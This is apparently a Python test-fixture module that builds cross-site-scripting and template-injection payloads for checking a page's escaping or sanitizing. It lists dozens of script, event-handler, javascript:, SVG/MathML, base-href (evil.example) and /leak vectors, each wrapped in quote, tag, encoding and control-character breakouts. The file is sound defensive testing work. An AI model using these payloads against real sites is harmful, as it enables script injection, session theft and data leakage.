"""Script payloads for every place at which a text could stand: classic vectors, each in several dresses."""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from urllib.parse import quote

#: What every payload calls when it runs; the test's page counts the calls.
CALL = "pwned()"

VECTORS = (
    "<script>pwned()</script>", "<ScRiPt>pwned()</ScRiPt>", "<script src=/leak></script>", "<script/x>pwned()</script>",
    "<script>pwned()//", "<<script>pwned();//<</script>", "<script\t>pwned()</script>", "<script\x0c>pwned()</script>",
    "<img src=x onerror=pwned()>", "<img src=/leak>", "<img/src=x/onerror=pwned()>", "<img src='x'onerror='pwned()'>",
    "<img srcset=/leak>", "<image src=x onerror=pwned()>", "<img src=`x`onerror=pwned()>", "<img src onerror=pwned()>",
    "<svg onload=pwned()>", "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned()>",
    "<svg><image href=/leak>", "<svg><use href=/leak#x>", "<svg><a href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=pwned()>", "<svg><set attributeName=onload to=pwned()>", "<svg><style>@import '/leak'",
    "<math href=javascript:pwned()>x</math>", "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<body onload=pwned()>", "<body onpageshow=pwned()>", "<body background=/leak>", "<html onclick=pwned()>",
    "<iframe src=javascript:pwned()></iframe>", "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=/leak></iframe>", "<object data=/leak></object>", "<object data=javascript:pwned()>", "<embed src=/leak>",
    "<a href=javascript:pwned()>x</a>", "<a href='java&#10;script:pwned()'>x</a>", "<area href=javascript:pwned()>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=/leak>", "<link rel=prefetch href=/leak>",
    "<meta http-equiv=refresh content='0;url=/leak'>", "<meta http-equiv=refresh content='0;javascript:pwned()'>",
    "<style>@import url(/leak);</style>", "<style>*{background:url(/leak)}</style>", "<div style=background:url(/leak)>",
    "<video src=/leak onerror=pwned()></video>", "<audio src=x onerror=pwned()>", "<video><source onerror=pwned()></video>",
    "<video poster=/leak></video>", "<input autofocus onfocus=pwned()>", "<select autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>", "<marquee onstart=pwned()>", "<form action=javascript:pwned()><button autofocus>",
    "<button popovertarget=x onclick=pwned()>x</button><div popover id=x onbeforetoggle=pwned()>", "<isindex onx=pwned()>",
    "<template><script>pwned()</script></template>", "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<x onanimationstart=pwned() style=animation:x>", "<p oncontentvisibilityautostatechange=pwned()>x", "javascript:pwned()",
    "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "https://x/\" onmouseover=pwned() x=\"",
    "{{ ''.__class__.__mro__ }}", "{% import 'os' as os %}{{ os.system('true') }}", "{{7*7}}", "${pwned()}", "<%= pwned() %>",
)  # fmt: skip
DRESSES: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "out of a double quote": lambda text: f'">{text}',
    "out of a single quote": lambda text: f"' autofocus onfocus=pwned() x='>{text}",
    "out of a title": lambda text: f"</title></desc></text></svg>{text}",
    "out of a style": lambda text: f"</style></script></textarea>{text}",
    "out of a comment": lambda text: f"--> ]]> --!>{text}",
    "as entities": escape,
    "in per cent": lambda text: quote(text, safe=""),
    "full width": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    "behind controls": lambda text: "\u202e\u2066\x0b\ufeff" + text + "\u2028\x1f",
}
PAYLOADS = tuple(dress(text) for text in VECTORS for dress in DRESSES.values())
